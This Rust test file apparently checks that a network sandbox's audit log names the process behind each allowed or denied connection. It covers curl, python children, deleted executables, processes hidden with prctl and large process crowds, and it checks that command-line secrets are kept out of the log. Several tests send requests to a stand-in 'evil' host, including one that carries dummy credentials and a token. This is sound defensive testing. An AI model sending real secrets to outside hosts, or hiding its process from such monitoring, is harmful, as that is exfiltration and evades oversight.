//! The process that made a connection, as the record names it: best effort, and never wrong.

use std::time::{Duration, Instant};

use e2e::case::{Bridge, Cases, Cx};
use e2e::run::Done;
use serde_json::Value;

pub(crate) fn cases(list: &mut Cases) {
    list.matrix("who::curl_through_the_proxy", curl_through_the_proxy);
    list.matrix("who::a_child_has_its_parent", child);
    list.matrix("who::curl_through_the_gateway", curl_through_the_gateway);
    // Nothing is known of connections through the relay.
    list.once("who::socks5_and_plain_http", other_entries);
    list.root("who::socks5_and_plain_http", other_entries);
    list.once("who::without_a_gateway", without_gateway);
    list.root("who::without_a_gateway", without_gateway);
    list.once("who::a_program_that_has_no_name_any_more", deleted);
    list.root("who::a_program_that_has_no_name_any_more", deleted);
    list.users("who::one_that_hides_is_left_out", hidden);
    list.once("who::the_end_says_what_each_program_asked_for", by_program);
    list.users("who::r01_a_crowd_takes_no_time", crowd);
    list.once("who::a03_arguments_are_never_told", arguments);
    list.root("who::a03_arguments_are_never_told", arguments);
}

/// A busy machine may miss one process, but not all of so many.
const TRIES: usize = 8;

fn repeated(script: &str) -> String {
    format!("{script}\n").repeat(TRIES)
}

/// Returns the decisions that name a process. Checks that the others have no part of it.
fn decisions_with_process(done: &Done) -> Vec<Value> {
    let log = done.record();
    let decisions = log.events("decision").into_iter().cloned();
    let (told, untold): (Vec<_>, Vec<_>) = decisions.partition(|line| line["pid"].is_u64());
    for line in untold {
        assert!(line.get("exe").is_none() && line.get("ppid").is_none(), "{line}");
    }
    told
}

fn name(line: &Value) -> &str {
    line["exe"].as_str().and_then(|exe| exe.rsplit('/').next()).unwrap_or("")
}

fn some_told(done: &Done) -> Vec<Value> {
    let told = decisions_with_process(done);
    assert!(!told.is_empty(), "nobody is told of: {:#?}", done.record().records());
    told
}

fn curl(url: &str) -> String {
    format!("curl -sS --max-time 20 --cacert ca.pem {url}")
}

/// Allowed and refused connections name the process; through the relay none does.
fn curl_through_the_proxy(cx: &Cx) {
    for url in [cx.good_url(), cx.evil_url()] {
        let done = cx.sh(&[&cx.good()], &repeated(&curl(&url))).run();
        assert_eq!(done.record().events("decision").len(), TRIES);
        if cx.bridge() == Bridge::Relay {
            assert_eq!(decisions_with_process(&done).len(), 0);
            continue;
        }
        let told = some_told(&done);
        for line in &told {
            assert_eq!(name(line), "curl", "{line}");
            assert!(line["exe"].as_str().is_some_and(|exe| exe.starts_with('/')), "{line}");
            // The processes have different numbers, and one shell.
            assert_eq!(line["ppid"], told[0]["ppid"], "{line}");
            assert!(told.iter().filter(|other| other["pid"] == line["pid"]).count() == 1, "{line}");
        }
        // Numbers of the host: no sandbox has so many processes.
        assert!(told[0]["ppid"].as_u64() > Some(64), "{}", told[0]);
    }
}

/// Lines, result and summary tell the agent's own requests and those of other programs apart.
fn by_program(cx: &Cx) {
    cx.needs(&[PYTHON]);
    let (other, third) =
        (cx.name("other", e2e::dns::Answer::NxDomain), cx.name("third", e2e::dns::Answer::NxDomain));
    let ask = |host: &str| {
        format!("import urllib.request as u; u.urlopen('https://{host}/', timeout=20)").replace('\'', "\"")
    };
    let script = format!(
        "{}{}{}",
        repeated(&curl(&format!("https://{other}/"))),
        repeated(&format!("{PYTHON} -c '{}' 2>/dev/null", ask(&third))),
        repeated(&curl(&cx.evil_url())),
    );
    let result = cx.home().join("result.json");
    let run = |script: &str| {
        cx.exeat(["run", "--result", result.to_str().expect("ASCII"), "--", "sh", "-c", script]).run()
    };
    let done = run(&script);
    let said = done.stderr();
    let lines: Vec<&str> = said.lines().filter(|line| line.starts_with("  denied")).collect();
    let by: Vec<&str> = lines.iter().filter_map(|line| Some(line.split_once("  # ")?.1)).collect();
    assert_eq!(lines.len(), 3, "{said}");
    assert_eq!(by.len(), 3, "{said}");
    assert!(by[0] == "curl" && by[1] == "curl" && by[2].starts_with("python3"), "{said}");
    let told: Value = serde_json::from_slice(&std::fs::read(&result).expect("a result")).expect("JSON");
    for denied in told["denied"].as_array().expect("a list") {
        let program = denied["programs"][0].as_str().expect("a program");
        let is_python = denied["host"] == third.as_str();
        assert!(program.contains(if is_python { "/python3" } else { "/curl" }), "{denied}");
    }
    let record = done.record_path().expect("a record").to_str().expect("ASCII").to_owned();
    cx.exeat_plain(["audit", "summary", &record]).run().exits(0).shows("by curl").shows("by python3");
    // With only one program, every line is as short as before.
    let done = run(&repeated(&curl(&cx.evil_url())));
    assert!(!done.stderr().contains('#') || !done.stderr().contains("# curl"), "{done:?}");
    let record = done.record_path().expect("a record").to_str().expect("ASCII").to_owned();
    assert!(!cx.exeat_plain(["audit", "summary", &record]).run().exits(0).stdout().contains("by curl"));
}

const PYTHON: &str = "/usr/bin/python3";

fn python(cx: &Cx, script: &str) -> String {
    if !std::path::Path::new(PYTHON).exists() {
        cx.cannot("there is no /usr/bin/python3");
    }
    cx.write("script.py", script);
    format!("{PYTHON} script.py")
}

/// Asks the proxy for a target, and reads the status.
const ASK: &str = "import ctypes, os, socket, subprocess, sys, time\n\
    def ask(target):\n    \
        s = socket.create_connection(('127.0.0.1', int(os.environ['HTTPS_PROXY'].rsplit(':', 1)[1].strip('/'))))\n    \
        s.sendall(('CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (target, target)).encode())\n    \
        s.recv(4096)\n    \
        return s\n";

fn child(cx: &Cx) {
    let evil = cx.evil();
    let script = format!(
        "{ASK}for _ in range({TRIES}):\n    ask('{evil}:1').close()\n    \
         subprocess.run(['curl', '-sS', 'https://{evil}/'])\n"
    );
    let script = python(cx, &script);
    let done = cx.sh(&[], &format!("{script}; true")).run();
    if cx.bridge() == Bridge::Relay {
        return assert_eq!(decisions_with_process(&done).len(), 0);
    }
    let told = some_told(&done);
    let (parents, children): (Vec<_>, Vec<_>) = told.iter().partition(|line| line["port"] == 1);
    assert!(!parents.is_empty() && !children.is_empty(), "{told:?}");
    for line in parents.iter().chain(&children) {
        let (of_python, exe) = if line["port"] == 1 { ("pid", "python3") } else { ("ppid", "curl") };
        assert!(name(line).starts_with(exe), "{line}");
        assert_eq!(line[of_python], parents[0]["pid"], "{line}");
    }
}

const UNSET: &str = "unset HTTPS_PROXY https_proxy HTTP_PROXY http_proxy NO_PROXY no_proxy";

/// Works with both bridges, because the gateway's connections use neither.
fn curl_through_the_gateway(cx: &Cx) {
    let script = format!("{UNSET}\n{}", repeated(&curl(&cx.good_url())));
    let words = ["run", "--set", "sandbox.transparent=on", "--allow", &cx.good(), "--", "sh", "-c", &script];
    let done = cx.exeat(words).run();
    for line in some_told(&done) {
        assert_eq!((name(&line), &line["via"]), ("curl", &"transparent".into()), "{line}");
    }
}

fn other_entries(cx: &Cx) {
    let socks = repeated(&format!("curl -sS --socks5-hostname 127.0.0.1:1080 https://{}/", cx.evil()));
    let done =
        cx.exeat(["run", "--set", "network.socks5=true", "--", "sh", "-c", &format!("{socks}true")]).run();
    for line in some_told(&done) {
        assert_eq!((name(&line), &line["via"]), ("curl", &"socks5".into()), "{line}");
    }
    let plain = repeated(&format!("curl -sS http://{}/", cx.evil()));
    for line in some_told(&cx.sh(&[], &plain).run()) {
        assert_eq!((name(&line), &line["via"]), ("curl", &"http".into()), "{line}");
    }
}

fn without_gateway(cx: &Cx) {
    let script = repeated(&curl(&cx.evil_url()));
    let done = cx.exeat(["run", "--set", "sandbox.transparent=off", "--", "sh", "-c", &script]).run();
    assert_eq!(done.record().records()[0]["gateway"], "off");
    assert!(some_told(&done).iter().all(|line| name(line) == "curl"));
}

/// curl waits for its configuration, and its executable is deleted by then.
fn deleted(cx: &Cx) {
    let script = format!(
        "mkfifo pipe; for i in $(seq {TRIES}); do\n\
         cp $(command -v curl) gone; ./gone -sS -K pipe & exec 7> pipe; rm gone; echo 'url = \"{}\"' >&7; exec 7>&-; wait\n\
         done",
        cx.evil_url()
    );
    for line in some_told(&cx.sh(&[], &script).run()) {
        assert_eq!(name(&line), "gone (deleted)", "{line}");
    }
}

/// A process may be missing, but is never replaced by another; the record has its request.
fn hidden(cx: &Cx) {
    const PR_SET_DUMPABLE: i32 = 4;
    let evil = cx.evil();
    let script = format!(
        "{ASK}assert ctypes.CDLL(None).prctl({PR_SET_DUMPABLE}, 0, 0, 0, 0) == 0\n\
         for _ in range({TRIES}):\n    ask('{evil}:1').close()\n"
    );
    let done = cx.sh(&[], &python(cx, &script)).run();
    done.exits(0);
    assert_eq!(done.record().events("decision").len(), TRIES);
    for line in decisions_with_process(&done) {
        assert!(name(&line).starts_with("python3"), "{line}");
    }
}

/// R01: 300 processes, and 3000 sockets in the process that asks.
fn crowd(cx: &Cx) {
    let evil = cx.evil();
    let script = format!(
        "{ASK}import resource\n\
         hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]\n\
         resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))\n\
         crowd = [subprocess.Popen(['sleep', '60']) for _ in range(300)]\n\
         sockets = [socket.socket() for _ in range(min(3000, hard - 64))]\n\
         began = time.monotonic()\n\
         kept = [ask('{evil}:1') for _ in range(100)]\n\
         print(time.monotonic() - began)\n\
         [child.kill() for child in crowd]\n"
    );
    let start = Instant::now();
    let done = cx.sh(&[], &python(cx, &script)).deadline(Duration::from_secs(60)).run();
    done.exits(0);
    assert!(start.elapsed() < Duration::from_secs(50));
    // 100 refusals, and none of them waits longer than WHO.
    let took: f64 = done.stdout().trim().parse().expect("seconds");
    assert!(took < 10.0, "{took} s");
    assert_eq!(done.record().events("decision").len(), 100);
    assert!(decisions_with_process(&done).iter().all(|line| name(line).starts_with("python3")));
}

/// A03.
fn arguments(cx: &Cx) {
    let url = format!("https://{}/?token=hunter1", cx.evil());
    let script = repeated(&format!("curl -sS -H 'Authorization: hunter2' -u hunter3:hunter4 {url}"));
    let done = cx.sh(&[], &script).run();
    assert!(some_told(&done).iter().all(|line| name(line) == "curl"));
    let text = std::fs::read_to_string(done.record_path().expect("a record")).expect("the record");
    assert!(!text.contains("hunter"), "{text}");
}
